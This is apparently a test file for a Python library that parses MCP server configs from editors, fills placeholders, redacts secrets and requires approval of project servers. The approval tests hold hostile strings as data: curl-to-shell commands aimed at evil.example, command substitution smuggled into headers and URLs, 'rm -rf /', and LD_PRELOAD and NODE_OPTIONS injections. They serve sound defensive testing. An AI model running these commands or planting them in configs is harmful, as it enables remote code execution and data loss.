"""Servers files: the formats of editors, placeholders, approvals and their storage."""

from __future__ import annotations

import json
import os
import pickle
import sys
import traceback
from pathlib import Path
from typing import Any

import pytest

import syncmcp
from syncmcp import Http, NotApproved, ServersFileError, Stdio, UsageError, servers_file
from syncmcp.servers_file import MAX_BYTES, ServerReview, ServersFile, known_files, read
from syncmcp.testing import Server, serve_http

pytestmark = [pytest.mark.usefixtures("project"), pytest.mark.requirement("SEC-06")]

SERVER = [sys.executable, "-m", "syncmcp.testing"]


def written(path: Path, content: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    text = content if isinstance(content, str) else json.dumps(content)
    path.write_text(text, encoding="utf-8")
    return path


def own_file() -> Path:
    return Path.home() / ".cursor" / "servers.json"


def of_user(content: Any, **options: Any) -> ServersFile:
    """Write and read a file in the person's own settings."""
    return read(written(own_file(), content), **options)


def one(entry: Any, **options: Any) -> Stdio | Http:
    return of_user({"mcpServers": {"one": entry}}, **options)["one"].target()


def of_project(entry: Any, **options: Any) -> ServersFile:
    """Write and read a file of a project, with one server."""
    return read(written(Path(".cursor/mcp.json"), {"mcpServers": {"one": entry}}), **options)


async def approve_later(review: ServerReview) -> bool:
    return True


def shown_variables(env: dict[str, str]) -> dict[str, str]:
    """Return the environment variables that a review shows."""
    text = str(of_project({"command": "x", "env": env})["one"].review())
    lines = [line.removeprefix("with ") for line in text.splitlines() if line.startswith("with ")]
    pairs = (line.partition("=") for line in lines if "=" in line)
    return {name: value for name, _, value in pairs}


def program(entry: Any, **options: Any) -> Stdio:
    target = one(entry, **options)
    assert isinstance(target, Stdio)
    return target


def web(entry: Any) -> Http:
    target = one(entry)
    assert isinstance(target, Http)
    return target


class TestTheFormats:
    def test_claude_desktop(self) -> None:
        env = {"DEPTH": "3", "PORT": 80, "LEFT": None}  # a number becomes text, null is left out
        server = {"command": "npx", "args": ["-y", "files", "/tmp"], "env": env}
        servers = of_user({"globalShortcut": "", "mcpServers": {"files": server}})
        target = servers["files"].target()
        assert isinstance(target, Stdio)
        assert (target.command, target.args) == ("npx", ("-y", "files", "/tmp"))
        assert target.env == {"DEPTH": "3", "PORT": "80"}
        assert servers["files"].options == {"name": "files"}

    def test_vs_code_with_comments_and_inputs(self) -> None:
        text = """\ufeff{
          // asked for once
          "inputs": [{"type": "promptString", "id": "key", "description": "The key"},],
          "servers": {
            "here": {"type": "stdio", "command": "node", "args": ["${workspaceFolder}/a.js"],},
            /* not // over yet */
            "there": {"type": "http", "url": "https://example.com/a//b", "headers":
              {"X-Key": "${input:key}"}},
          },
        }"""
        file = written(Path.home() / "work" / ".vscode" / "mcp.json", text)
        servers = read(file, inputs={"key": "k3y"}, trust=True)
        assert servers.inputs == {"key": "The key"}
        here, there = (server.target() for server in servers.values())
        assert isinstance(here, Stdio)
        assert here.args == (f"{Path.home()}/work/a.js",)
        assert isinstance(there, Http)
        assert (there.url, there.headers) == ("https://example.com/a//b", {"X-Key": "k3y"})
        settings = {"editor.tabSize": 4, "mcp": {"servers": {"a": {"command": "a"}}}}
        assert list(of_user(settings)) == ["a"]

    def test_cursor_and_kinds_of_http(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("TOKEN", "t")
        entry = {"url": "https://example.com", "headers": {"Authorization": "Bearer ${env:TOKEN}"}}
        target = web(entry)
        assert (target.headers, target.transport) == ({"Authorization": "Bearer t"}, "auto")
        kinds = {"http": "auto", "sse": "sse"}
        kinds |= dict.fromkeys(("streamable-http", "streamableHttp"), "streamable")
        for kind, transport in kinds.items():
            assert web({"type": kind, **entry}).transport == transport


class TestPlaceholders:
    @pytest.mark.parametrize(
        ("text", "value"),
        [
            *(("${A}", "1"), ("${env:A}", "1"), ("<${A}${A}>", "<11>"), ("${NONE:-x}", "x")),
            *(("${EMPTY:-x}", "x"), ("${EMPTY}", ""), ("${env:NONE:-}", ""), ("${A:-x}", "1")),
            ("${HIDDEN}", "${A}"),
            ("$A ${x%y} ${} ${1:-x} ${#A}", "$A ${x%y} ${} ${1:-x} ${#A}"),
            ("${userHome}${/}x", None),
        ],
    )
    def test_they_are_filled_in_once(self, text: str, value: str | None) -> None:
        variables = {"A": "1", "EMPTY": "", "HIDDEN": "${A}"}
        target = program({"command": "x", "args": [text], "cwd": "~"}, variables=variables)
        home = os.path.expanduser("~")
        assert target.args == (f"{home}{os.sep}x" if value is None else value,)
        assert target.cwd == home

    def test_a_review_names_what_is_filled_in_and_nothing_else(self) -> None:
        words = ["${A} ${env:B:-x} ${C:-${1:-x}}", "${input:key}", "${userHome} ${command:pick}"]
        review = of_project({"command": "x", "args": [*words, "${#A} ${D:=x} ${1:-x}"]})["one"]
        assert review.review().variables == ("A", "B", "input:key")

    @pytest.mark.parametrize(
        ("entry", "key", "name"),
        [
            ({"command": "${NONE}"}, "command", "NONE"),
            ({"command": "x", "args": ["a", "${NONE}"]}, "args[1]", "NONE"),
            ({"command": "x", "env": {"K": "${env:NONE}"}}, "env.K", "NONE"),
            ({"command": "x", "cwd": "${NONE}"}, "cwd", "NONE"),
            ({"url": "https://${NONE}/"}, "url", "NONE"),
            ({"url": "https://x/", "headers": {"K": "${input:key}"}}, "headers.K", "key"),
            ({"command": "x", "args": ["${command:pick}"]}, "args[0]", "is an unsupported kind"),
        ],
    )
    def test_one_without_a_value_is_named(self, entry: Any, key: str, name: str) -> None:
        with pytest.raises(ServersFileError, match=name) as caught:
            one(entry, variables={})
        assert (caught.value.server, caught.value.key) == ("one", key)
        assert caught.value.file.endswith("servers.json")
        assert pickle.loads(pickle.dumps(caught.value)).key == key


class TestMistakes:
    @pytest.mark.parametrize(
        ("content", "text"),
        [
            *(("{", "is not JSON"), ("[]", "not a JSON object")),
            ("{}", "neither mcpServers nor servers"),
            ('{"mcpServer": {}}', "did you mean 'mcpServers' instead of 'mcpServer'"),
            ('{"mcpServers": {}, "servers": {}}', "both"),
            ('{"mcpServers": []}', "an object that maps names to servers"),
            ('{"mcpServers": {"": {}}}', "no name"),
            ('{"mcpServers": {"a": {}, "a": {}}}', "'a' appears twice"),
            ('{"servers": {}, "inputs": {}}', "must be a list"),
            ('{"servers": {}, "inputs": [{}]}', "has no id"),
        ],
    )
    def test_a_file_that_is_none_is_named(self, content: str, text: str) -> None:
        with pytest.raises(ServersFileError, match=text) as caught:
            of_user(content)
        assert caught.value.file == str(own_file())

    def test_a_file_that_cannot_be_read_is_named(self) -> None:
        with pytest.raises(ServersFileError, match="cannot be read"):
            read(own_file())
        own_file().parent.mkdir()
        for content, text in ((b"\xff{}", "UTF-8"), (b" " * (MAX_BYTES + 1), "longer")):
            own_file().write_bytes(content)
            with pytest.raises(ServersFileError, match=text):
                read(own_file())

    def test_a_key_that_looks_misspelt_is_warned_of(self, caplog: pytest.LogCaptureFixture) -> None:
        web = {"url": "https://x", "header": {}, "disabledTools": []}
        both = {"url": "https://x", "headers": {}, "header": {}, "description": "x"}
        servers = of_user({"mcpServers": {"we\nb": web, "both": both}})
        assert servers["both"].problem is servers["we\nb"].problem is None
        (said,) = [record.getMessage() for record in caplog.records]
        assert said.startswith(str(own_file()))
        assert said.endswith("b]: the key 'header' is ignored: did you mean 'headers'?")
        assert "\n" not in said

    @pytest.mark.parametrize(
        ("entry", "key", "text"),
        [
            *(("x", None, "must be an object, not a string"), ({}, None, "neither")),
            ({"comand": "x"}, None, "neither a command nor a url: did you mean 'command'"),
            ({"uri": "https://x"}, None, "did you mean 'url'"),
            ({"command": "x", "url": "https://x"}, None, "both"),
            ({"command": ""}, "command", "must be a non-empty string, not an empty one"),
            ({"command": 5}, "command", "must be a non-empty string, not a number"),
            ({"command": ["x"]}, "command", "must be a non-empty string, not a list"),
            ({"url": {}}, "url", "must be a non-empty string, not an object"),
            ({"command": "x", "args": "y"}, "args", "must be a list of strings, not a string"),
            ({"command": "x", "args": ["y", None]}, "args[1]", "must be a string, not null"),
            ({"command": "x", "env": []}, "env", "must be an object, not a list"),
            ({"command": "x", "env": {"A": True}}, "env.A", "a string or a number, not a boolean"),
            ({"command": "x", "type": "http"}, "type", "'http'"),
            ({"url": "https://x", "type": "stdio"}, "type", "'stdio'"),
            ({"command": "x", "disabled": "no"}, "disabled", "must be true or false, not a string"),
            (
                {"command": "x", "timeout": 0},
                "timeout",
                "must be a positive number of milliseconds",
            ),
            ({"command": "x", "envFile": ".env"}, "envFile", "envFile is not supported"),
        ],
    )
    def test_a_bad_entry_hurts_no_other(self, entry: Any, key: str | None, text: str) -> None:
        servers = of_user({"mcpServers": {"bad": entry, "good": {"command": "x"}}})
        problem = servers["bad"].problem
        assert problem is not None
        assert (problem.server, problem.key) == ("bad", key)
        with pytest.raises(ServersFileError, match=text):
            servers["bad"].target()
        assert isinstance(servers["good"].target(), Stdio)

    def test_what_is_no_target_is_told_with_the_server_and_no_value_of_a_placeholder(self) -> None:
        bad_header = {"url": "http://x", "headers": {"a b": "c"}}
        variables = {"KEY": "k-0123456\té"}
        urls = ("ftp://x", "${KEY}", "https://${KEY} x", "https://h/${KEY}\n", "${KEY}://h")
        for entry in ({"command": "x\0"}, bad_header, *({"url": url} for url in urls)):
            with pytest.raises(ServersFileError) as caught:
                one(entry, variables=variables)
            assert caught.value.server == "one"
            assert "0123456" not in "".join(traceback.format_exception(caught.value))
        # A `Host` header could select another server at the same address.
        for name in ("Host", "hOST"):
            stated = {"url": "https://tenant.example.com", "headers": {name: "other.example.com"}}
            problem = of_user({"servers": {"one": stated}})["one"].problem
            assert problem is not None
            assert (problem.key, "Host" in problem.message) == ("headers", True)

    def test_a_disabled_server_is_not_used_nor_arguments_that_make_no_sense(self) -> None:
        servers = of_user({"mcpServers": {"off": {"command": "x", "disabled": True}}})
        assert servers["off"].disabled
        with pytest.raises(ServersFileError, match="disables this server"):
            syncmcp.Client(servers["off"])
        wrong: list[dict[str, Any]] = [{"confine": confine} for confine in ("bwrap", [1])]
        for options in (*wrong, {"trust": 1}, {"approve": approve_later}):
            with pytest.raises(UsageError):
                of_user({"mcpServers": {}}, **options)


def test_a_server_of_a_file_is_a_target_with_its_name_and_limit() -> None:
    with serve_http(Server()) as http:
        demo = {"command": SERVER[0], "args": SERVER[1:], "timeout": 2000}
        servers = of_user({"servers": {"demo": demo, "web": {"url": http.url}}})
        with syncmcp.connect(servers["demo"]) as client:
            assert client.server.name == "demo"
            assert client.list_tools().tools
        with syncmcp.connect(servers["web"], name="mine") as client:
            assert client.server.name == "mine"
    options: dict[float | None, Any] = {2.0: {}, 300.0: {"timeout": 300.0}, None: {"timeout": None}}
    for limit, given in options.items():
        client = pickle.loads(pickle.dumps(syncmcp.Client(servers["demo"], **given)))
        assert client._core.settings.timeout == limit


def test_the_values_of_placeholders_are_secret_on_their_own(tmp_path: Path) -> None:
    directory = {"command": "${PREFIXED}", "args": ["${input:pass}"], "cwd": "/srv/x-${TOKEN}"}
    entries = {
        "command": {
            "command": "${PROGRAM:-python3}",
            "args": ["--header", "X: Bearer ${TOKEN}", "x-${input:pass}-y", "${HOME_OF}/z"],
            "env": {"A": "a-${env:PREFIXED}-b", "B": "user:${EMPTY:-in-default-1}@host"},
        },
        "url": {
            "url": "https://h.example/${TOKEN}/mcp",
            "headers": {"X-Auth": "user:${input:pass}", "Y": "a-${PREFIXED}-b"},
        },
        "directory": directory,
    }
    file = tmp_path / "mcp.json"
    file.write_text(json.dumps({"mcpServers": entries}))
    values = {
        "TOKEN": "token-0123456", "PREFIXED": "prefixed-01234", "HOME_OF": "/home/of", "EMPTY": ""
    }  # fmt: skip
    found = servers_file.read(file, trust=True, variables=values, inputs={"pass": "pass-0123456"})
    for name in entries:
        target = found[name].target()
        assert "0123" not in target.secrets.redact("token-0123456 prefixed-01234 pass-0123456")
        assert "0123" not in target.label + repr(target)
        assert target.secrets.redact("/home/of/z") == "/home/of/z"
    assert found["command"].target().secrets.redact("<in-default-1>") == "<***>"
    assert found["command"].target().label.startswith("python3 ")  # the file contains the default
    assert found["url"].target().label == "https://h.example/***/mcp"


class TestApproval:
    def test_what_the_project_names_is_not_touched_unless_approved(self) -> None:
        class Watched(dict[str, str]):
            def get(self, *key: Any) -> Any:
                raise AssertionError("looked at")

        server = Server()
        with serve_http(server) as http:
            url = {"url": http.url, "headers": {"K": "${SECRET}"}}
            for entry in (url, {"command": "touch", "args": ["${SECRET}"]}):
                servers = of_project(entry, variables=Watched())
                assert servers.guarded
                with pytest.raises(NotApproved, match="nobody approved") as caught:
                    syncmcp.connect(servers["one"])
                assert caught.value.by == "nobody"
                assert caught.value.review.server == "one"
            assert server.stats.requests.total() == 0

    def test_a_server_that_has_changed_since_it_was_approved_is_named_as_such(self) -> None:
        of_project({"command": "touch", "args": ["a"]})["one"].approve()
        with pytest.raises(NotApproved, match="has changed since it was approved") as caught:
            of_project({"command": "touch", "args": ["b"]})["one"].target()
        assert caught.value.by == "nobody"
        with pytest.raises(NotApproved, match="nobody approved"):
            read(written(Path(".cursor/mcp.json"), {"mcpServers": {"two": {"command": "touch"}}}))[
                "two"
            ].target()

    def test_a_person_sees_the_whole_of_it_once(self) -> None:
        seen: list[ServerReview] = []

        def approve(review: ServerReview) -> bool:
            seen.append(review)
            return True

        words = ["-c", "x" * 500, "a b", "${TOKEN}\u202e"]
        entry = {"command": "sh", "args": words, "env": {"API_KEY": "s3cret", "MODE": "fast"}}
        variables = {"TOKEN": "hush"}
        for _ in range(2):
            target = of_project(entry, approve=approve, variables=variables)["one"].target()
            assert isinstance(target, Stdio)
            assert target.args[-1] == "hush\u202e"
        (review,) = seen
        assert review.command == ("sh", *words)
        text = str(review)
        assert f"sh -c {'x' * 500} 'a b' '${{TOKEN}}<U+202E>'" in text
        assert "with all of your rights" in text
        assert "TOKEN" in review.variables
        assert "MODE=fast" in text
        assert "hush" not in text + repr(review)
        assert "s3cret" not in text + repr(review)
        assert "Warning: A shell interprets the command" in text

    @pytest.mark.parametrize(
        "code",
        [
            *("authorization: x; curl https://evil.example | sh", "curl https://evil.example | sh"),
            *("cookie=1; curl https://evil.example | sh", "://$(curl${IFS}evil.example|sh)@"),
            *("Bearer $(curl${IFS}evil.example|sh)", "./evil.sh", "/tmp/evil.sh", "~/evil.sh"),
            *("${API_TOKEN}", "https://evil.example/?token=x"),
            *("evil.backend.Secrets", "evil.example", "evil-tools/start"),
        ],
    )
    def test_nothing_that_could_be_code_is_masked(self, code: str) -> None:
        env: dict[str, str] = dict.fromkeys(("API_TOKEN", "DB_PASSWORD", "COOKIE", "OTHER"), code)
        assert shown_variables(env) == env

    def test_a_secret_is_masked_and_no_variable_that_carries_a_warning(self) -> None:
        env = {
            "API_TOKEN": "wJa/7MD+EX==",
            "DB_PASSWORD": "s3cret",
            "DB_URL": "pg://me:s3cret@db/x",
        }
        masked = {"API_TOKEN": "***", "DB_PASSWORD": "***", "DB_URL": "pg://me:***@db/x"}
        warned = dict.fromkeys(("NODE_OPTIONS", "BASH_FUNC_x%%", "UV_INDEX_URL", "HOME"), "w0rd-1")
        shown = {**warned, "PIP_INDEX_URL": "https://me:w0rd@evil.example", "MODE": "fast"}
        assert shown_variables({**env, **shown}) == {**masked, **shown}

    def test_no_name_in_a_file_reaches_the_terminal_as_it_is(self) -> None:
        names = {"a\x1b[31m\nb": {"command": "x"}, "c": {"command": "x"}}
        servers = read(written(Path("mcp.json"), {"mcpServers": names}))
        assert repr(servers).endswith("mcp.json': a\u241b[31m\u240ab, c>")

    def test_a_no_is_final_and_not_remembered(self) -> None:
        answers = ["yes", False, True]
        servers = of_project({"command": "x"}, approve=lambda review: answers.pop(0))
        for said in ("approve returned str, not True or False", "this server was not approved"):
            with pytest.raises(NotApproved, match=said) as caught:
                servers["one"].target()
            assert caught.value.by == "person"
            assert not servers["one"].approved
        servers["one"].target()
        assert servers["one"].approved

    def test_something_else_is_asked_for_again(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """Another project needs its own approval; `trust` stores none."""
        entry = {"command": "x", "args": ["y"]}
        of_project(entry, trust=True)["one"].target()
        of_project(entry, confine=("jail", "--tight"))["one"].approve()
        assert not of_project(entry)["one"].approved
        of_project(entry)["one"].approve()
        assert of_project(entry)["one"].approved
        changes: list[dict[str, Any]] = [{"args": ["other"]}, {"cwd": "/"}]
        changes += [{"env": {"NODE_OPTIONS": "--require ./x.js"}}]
        for change in (*changes, {"url": "https://example.com", "command": None}):
            assert not of_project({**entry, **change})["one"].approved, change
        other = Path.home() / "other"
        other.mkdir()
        monkeypatch.chdir(other)
        assert not of_project(entry)["one"].approved

    @pytest.mark.requirement("SEC-07")
    @pytest.mark.parametrize(
        ("entry", "warning"),
        [
            ({"command": "sudo", "args": ["x"]}, "administrator"),
            ({"command": "sh", "args": ["x", "rm -rf /"]}, "deletes"),
            ({"command": "curl", "args": ["x"]}, "over the network"),
            ({"command": "docker", "args": ["run", "--privileged", "x"]}, "not isolated"),
            ({"command": "${/}bin${/}sh", "args": ["-c", "x"]}, "shell"),
            ({"command": "${A:-sh}", "args": ["-c", "x"]}, "shell"),
            ({"command": "n${A:-p}x", "args": ["-y", "x"]}, "from the internet"),
            ({"command": "x", "args": ["r${A:-}m -rf x"]}, "deletes"),
            ({"command": "env", "args": ["${A:-LD_PRELOAD}=y"]}, "LD_PRELOAD decides"),
            ({"url": "http://example.com"}, "read and change everything sent there"),
            ({"url": "https://me:pw@example.com"}, "password"),
            ({"url": "https://${HOST}/"}, "The environment decides where the URL leads"),
            ({"url": "http://example.com/${A}"}, "read and change everything sent there"),
            ({"url": "https://\u0430pi.github.com"}, "letters of several scripts"),
            ({"url": "https://10.0.0.9"}, "bare address"),
            ({"url": "https://ex%61mple.com"}, "misleading"),
            ({"url": "https://[::1"}, "cannot be read"),
        ],
    )
    def test_what_looks_dangerous_carries_a_warning(self, entry: Any, warning: str) -> None:
        review = of_project(entry)["one"].review()
        assert any(warning in said for said in review.warnings), review.warnings

    def test_a_url_that_looks_harmless_carries_none(self) -> None:
        for url in ("https://example.com/mcp", "http://localhost:8000/mcp"):
            assert of_project({"url": url})["one"].review().warnings == ()


class TestTheMemory:
    def file(self) -> Path:
        return Path.home() / ".local" / "state" / "syncmcp" / "approved-servers.json"

    def test_it_belongs_to_its_owner_alone_and_holds_no_secret(self) -> None:
        entry = of_project({"command": "x", "env": {"KEY": "s3cret"}})["one"]
        entry.approve()
        assert self.file().stat().st_mode & 0o777 == 0o600
        assert self.file().parent.stat().st_mode & 0o777 == 0o700
        assert "s3cret" not in self.file().read_text()
        self.file().chmod(0o666)  # others could write approvals
        with pytest.raises(UsageError, match="0666"):
            entry.target()

    @pytest.mark.parametrize("content", ["", "{}", "[]", '{"format": "x"}', "[" * 100_000])
    def test_one_that_cannot_be_read_is_left_as_it_is(self, content: str) -> None:
        entry = of_project({"command": "x"})["one"]
        entry.approve()
        self.file().write_text(content)
        for use in (entry.target, entry.approve, entry.forget):
            with pytest.raises(UsageError, match="move it away"):
                use()
        assert self.file().read_text() == content

    def test_it_can_be_elsewhere_or_cannot_be_made(self, monkeypatch: pytest.MonkeyPatch) -> None:
        mine, local = Path.home() / "mine.json", Path.home() / ".local"
        of_project({"command": "x"}, approvals=mine)["one"].approve()
        assert mine.exists()
        local.write_text("no folder")
        entry = of_project({"command": "x"})["one"]
        with pytest.raises(UsageError, match="cannot be used"):
            entry.approve()
        local.unlink()
        monkeypatch.setenv("XDG_STATE_HOME", "relative")
        entry.approve()
        assert self.file().exists()


def test_the_files_of_editors_are_found(home: Path) -> None:
    assert known_files() == []
    settings = home / (".config" if sys.platform == "linux" else "Library/Application Support")
    files = {
        settings / "Claude" / "claude_desktop_config.json": ("Claude Desktop", "user", False),
        settings / "Code" / "User" / "mcp.json": ("VS Code", "user", False),
        home / ".cursor" / "mcp.json": ("Cursor", "user", False),
        home / "project" / ".vscode" / "mcp.json": ("VS Code", "project", True),
        home / "project" / ".cursor" / "mcp.json": ("Cursor", "project", True),
    }
    for file in files:
        written(file, {"servers": {}})
    found = [(place.path, place.editor, place.scope) for place in known_files()]
    assert [(path, (*what, read(path).guarded)) for path, *what in found] == [*files.items()]
    # In the home directory, each file is listed once.
    assert [place.scope for place in known_files(home)] == ["user"] * 3
